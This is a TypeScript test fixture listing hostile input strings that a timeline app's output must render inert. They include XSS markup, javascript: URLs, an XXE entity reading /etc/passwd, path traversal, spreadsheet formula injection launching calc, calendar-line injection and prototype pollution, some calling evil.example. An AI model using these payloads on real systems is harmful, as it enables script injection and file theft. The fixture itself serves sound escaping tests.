/**
 * Texts that a careless writer of HTML, XML, JSON, a calendar or a table would let out of their place, or that a careless reader
 * would run. Each sets `polluted` or asks evil.example for something if anything runs it. All are to be shown as they are.
 */
import type { Timeline } from '../src/model/timeline.ts';

const MARKUP: readonly string[] = [
  '<script>globalThis.polluted = 1</script>',
  '</script><script>globalThis.polluted = 1</script>',
  '<SCRIPT>globalThis.polluted = 1</SCRIPT >',
  '<script src="//evil.example/x.js"></script>',
  '<img src=x onerror="globalThis.polluted = 1">',
  '<img/src=x/onerror=globalThis.polluted=1>',
  '<svg onload="globalThis.polluted = 1"></svg>',
  '<svg><script>globalThis.polluted = 1</script></svg>',
  '<math><mtext></mtext><script>globalThis.polluted = 1</script></math>',
  '<iframe srcdoc="<script>parent.polluted = 1</script>"></iframe>',
  '<object data="javascript:globalThis.polluted=1"></object>',
  '<embed src="javascript:globalThis.polluted=1">',
  '<a href="javascript:globalThis.polluted=1">x</a>',
  '<form action="javascript:globalThis.polluted=1"><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>* { display: none }</style>',
  '</style><script>globalThis.polluted = 1</script>',
  '</title><script>globalThis.polluted = 1</script>',
  '</textarea><script>globalThis.polluted = 1</script>',
  '</noscript><script>globalThis.polluted = 1</script>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.polluted=1>">',
  '<template><script>globalThis.polluted = 1</script></template>',
  '</conflict-timeline></main></body></html><script>globalThis.polluted = 1</script>',
  '<!-- <script>globalThis.polluted = 1</script>',
  '--><script>globalThis.polluted = 1</script>',
  '--!><script>globalThis.polluted = 1</script>',
  ']]><script>globalThis.polluted = 1</script>',
  '<![CDATA[<script>globalThis.polluted = 1</script>]]>',
  '<?php echo 1 ?><?lit$1234$?>',
  '<!--lit-part--><!--/lit-part--><!--?lit$-->',
  '" onmouseover="globalThis.polluted=1" x="',
  "' onfocus='globalThis.polluted=1' autofocus x='",
  '` onfocus=globalThis.polluted=1 autofocus x=`',
  '"><script>globalThis.polluted = 1</script>',
  "'><script>globalThis.polluted = 1</script>",
  '" style="position:fixed;inset:0" x="',
  'javascript:globalThis.polluted=1',
  'JaVaScRiPt:globalThis.polluted=1',
  'java\tscript:globalThis.polluted=1',
  ' javascript:globalThis.polluted=1',
  'data:text/html,<script>globalThis.polluted=1</script>',
  'vbscript:msgbox(1)',
  '&lt;script&gt;globalThis.polluted = 1&lt;/script&gt;',
  '&#60;script&#62;globalThis.polluted = 1&#60;/script&#62;',
  '&quot; onload=&quot;globalThis.polluted=1',
  '&amp;lt;',
  '$&',
  "$` $' $$ $1 $<name>",
  '<!-- events -->',
  '<!-- look --><html lang="en">',
  '{{7*7}} ${7*7} <%= 7*7 %>',
  '<b>bold',
  '<p><p></div></section>',
  '\u202e<script>globalThis.polluted = 1</script>',
  '\ufeff<script>globalThis.polluted = 1</script>',
  '<scr\u0000ipt>globalThis.polluted = 1</script>',
];

/** Markup that lives off what parsers mend, and of other vocabularies. */
const BROKEN_MARKUP: readonly string[] = [
  '<svg><style><img src=x onerror=globalThis.polluted=1></style></svg>',
  '<math><annotation-xml encoding="text/html"><script>globalThis.polluted = 1</script></annotation-xml></math>',
  '<svg><foreignObject><iframe src="javascript:parent.polluted=1"></iframe></foreignObject></svg>',
  '<svg><animate onbegin=globalThis.polluted=1 attributeName=x dur=1s>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><image href="https://evil.example/x.png"/></svg>',
  '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
  '<img srcset="https://evil.example/x.png 1x">',
  '<picture><source srcset="https://evil.example/x.png"><img></picture>',
  '<video poster="https://evil.example/x.png"><source onerror="globalThis.polluted=1"></video>',
  '<audio src=x onerror=globalThis.polluted=1>',
  '<body onload=globalThis.polluted=1>',
  '<details open ontoggle=globalThis.polluted=1>',
  '<input autofocus onfocus=globalThis.polluted=1>',
  '<select autofocus onfocus=globalThis.polluted=1>',
  '<marquee onstart=globalThis.polluted=1>',
  '<dialog open onclose=globalThis.polluted=1>',
  '<button popovertarget=p onclick=globalThis.polluted=1>x</button>',
  '<slot name="x"></slot></template>',
  '<conflict-timeline src="https://evil.example/t.json"></conflict-timeline>',
  '<frameset onload=globalThis.polluted=1>',
  '<table><td background="https://evil.example/x.png">',
  '<div style="background:url(https://evil.example/x.png)">',
  '<link rel=preload as=image href="https://evil.example/x.png">',
  '<link rel=dns-prefetch href="//evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<meta property="og:image" content="https://evil.example/x.png">',
  '<script type="application/ld+json">{"@id":"https://evil.example/"}</script>',
  '<script type=module>import "https://evil.example/x.js"</script>',
  '<script type=importmap>{"imports":{"lit":"https://evil.example/x.js"}}</script>',
  '<noembed><img title="</noembed><img src=x onerror=globalThis.polluted=1>"></noembed>',
  '<xmp></xmp><script>globalThis.polluted = 1</script>',
  '<plaintext>',
  '</p></figure></blockquote></li></ol></article>',
  '</head><body><h1>Other</h1>',
  '<!doctype html><html><head></head>',
  '<!--[if gte IE 4]><script>globalThis.polluted = 1</script><![endif]-->',
  '<<script>script>globalThis.polluted = 1<</script>/script>',
  '<script>globalThis.polluted = 1<!--',
  '<img src="x` `<script>globalThis.polluted = 1</script>"` `>',
  '<a href=//evil.example>x</a>',
  '<p id=events></p><p name=body></p>',
  '<form id=document><input name=body></form>',
];

const XML: readonly string[] = [
  ']]>',
  '<![CDATA[',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<!ENTITY % e SYSTEM "https://evil.example/x.dtd">%e;',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
  '<entry><id>evil</id></entry>',
  '</title><link href="https://evil.example/"/><title>',
  '</loc></url><url><loc>https://evil.example/',
  '</text><script>globalThis.polluted = 1</script><text>',
  'xmlns:x="https://evil.example/"',
];

const ADDRESSES: readonly string[] = [
  'javascript://x%0aglobalThis.polluted=1',
  'javascript&colon;globalThis.polluted=1',
  '&#106;avascript:globalThis.polluted=1',
  'java\nscript:globalThis.polluted=1',
  '\u0001javascript:globalThis.polluted=1',
  'view-source:javascript:globalThis.polluted=1',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https:evil.example',
  'https://evil.example@example.org/',
  'https://example.org" onclick="globalThis.polluted=1',
  'https://example.org/#"><script>globalThis.polluted=1</script>',
  'data:image/svg+xml,<svg onload="globalThis.polluted=1"/>',
  'mailto:a@example.org?bcc=evil@evil.example',
  'https://example.org/%00%0d%0aSet-Cookie:%20a=b',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'CON',
  '.',
  '..',
  '/',
  'index.html',
];

const ENTITIES: readonly string[] = [
  '&lt;img src=x onerror=globalThis.polluted=1&gt;',
  '&#x3c;script&#x3e;globalThis.polluted=1&#x3c;/script&#x3e;',
  '&#0000060script&#0000062',
  '&ltscript&gtglobalThis.polluted=1&lt/script&gt',
  '&amp;lt;script&amp;gt;',
  '&NewLine;&Tab;&colon;',
  '&#0;&#x110000;&#xD800;',
  '\\u003cscript\\u003eglobalThis.polluted=1\\u003c/script\\u003e',
  '\\x3cscript\\x3e',
  '%3Cscript%3EglobalThis.polluted=1%3C/script%3E',
  '+ADw-script+AD4-globalThis.polluted=1+ADw-/script+AD4-',
];

/** Letters that turn the line about, are not seen, or are none. Each has a word in it, since a title of nothing is refused. */
const LETTERS: readonly string[] = [
  'a\u202eb\u202d c',
  '\u2067right\u2066 left\u2069\u2069\u2069',
  'pay\u200b\u200c\u200d\u2060load',
  'ab\u00adcd',
  'line\u2028break\u2029paragraph',
  'tab\tand\vmore\f',
  'bell\u0007 escape\u001b[31m red\u001b[0m',
  'nul\u0000nul',
  'delete\u007f next\u0085 end',
  'half \ud800 a pair',
  'the other \udc00 half',
  'turned \udfff\ud800 about',
  'no letter \ufffe\uffff',
  'mark \ufeff in between',
  'zalgo z\u0351\u036b\u0343\u036a\u0302\u036b\u033d',
  'tag \u{e0041}\u{e0042}',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} family',
  'wide \uff1cscript\uff1e',
  'signs \u02b9\u02ba\u2039\u203a\u00ab\u00bb',
  '\u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b>',
];

const TEMPLATES: readonly string[] = [
  '{{constructor.constructor("globalThis.polluted=1")()}}',
  '${globalThis.polluted=1}',
  '`${globalThis.polluted=1}`',
  '#{globalThis.polluted=1}',
  '<%= globalThis.polluted=1 %>',
  '{%raw%}{{x}}{%endraw%}',
  '[[${globalThis.polluted=1}]]',
  '@{x} @x @(1+1)',
  '{"__proto__":{"polluted":1}}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '");globalThis.polluted=1;//',
  "');globalThis.polluted=1;//",
  '\\");globalThis.polluted=1;//',
  '*/globalThis.polluted=1;/*',
  '//# sourceMappingURL=https://evil.example/x.map',
  'x\n</script>\n<script>globalThis.polluted=1',
];

/** For tables: what a spreadsheet would run, and what would end a cell or a row. */
const CELLS: readonly string[] = [
  '=HYPERLINK("https://evil.example/","x")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '"=1+1"',
  "'=1+1",
  ';=1+1',
  'a","b\nc","d',
  'a;b\tc|d',
  '\uff1d1+1',
];

/** For calendars, Markwhen and heads of messages: what would begin a line of its own. */
const LINES: readonly string[] = [
  'x\r\nBEGIN:VEVENT\r\nSUMMARY:evil\r\nEND:VEVENT',
  'x\nEND:VCALENDAR\nBEGIN:VCALENDAR',
  'x\rATTACH:https://evil.example/x',
  'x\r\n ATTACH:https://evil.example/x',
  'x\\nURL:https://evil.example/',
  'x;VALUE=URI:https://evil.example/',
  'x\u2028ATTACH:https://evil.example/x',
  'x\u0085ATTACH:https://evil.example/x',
  'x\r\nContent-Type: text/html\r\n\r\n<script>globalThis.polluted=1</script>',
  'x\n---\ntitle: evil\n---',
  'x\n2031-05-04: another',
  'x\n# Section\n',
  'x\nid: "other"',
  '// comment',
  '> quoted',
  '- item\n- item',
  '[link](javascript:globalThis.polluted=1)',
  '![image](https://evil.example/x.png)',
  'a: b: c',
  '!!js/function "function(){globalThis.polluted=1}"',
  '*alias &anchor',
  'x #hash ?query=1&at=2031',
];

export const HOSTILE: readonly string[] = [
  ...MARKUP,
  ...BROKEN_MARKUP,
  ...XML,
  ...ADDRESSES,
  ...ENTITIES,
  ...LETTERS,
  ...TEMPLATES,
  ...CELLS,
  ...LINES,
];

/** Where the format allows any words. */
const WORDS = new Set([
  ...['title', 'name', 'text', 'place', 'publisher', 'author', 'rights', 'file', 'description'],
  ...['speakerText', 'exact', 'prefix', 'suffix', 'note', 'was', 'part', 'field', 'edit', 'rule'],
]);
/** No field is longer, so that ids made of it and cells are not cut. */
const MOST = 80;

/** The timeline with `words`, cut to 80 letters, wherever the format allows any; sound by the format. */
export function poisoned(timeline: Timeline, words: string): Timeline {
  const poison = (value: unknown, key: string): unknown => {
    if (typeof value === 'string') return WORDS.has(key) ? shownOf(words) : value;
    if (Array.isArray(value)) return value.map((each) => poison(each, key));
    if (key === 'length') return 1000;
    if (value === null || typeof value !== 'object') return value;
    // Else the words would not be as long as the file says, and the entry would be left out.
    if ('type' in value && value.type === 'TextPositionSelector')
      return { ...value, start: 0, end: Array.from(shownOf(words)).length };
    return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, poison(inner, name)]));
  };
  return { ...(poison(timeline, '') as Timeline), description: words };
}

/** What `poisoned` has put everywhere. */
export function shownOf(words: string): string {
  return words.slice(0, MOST);
}
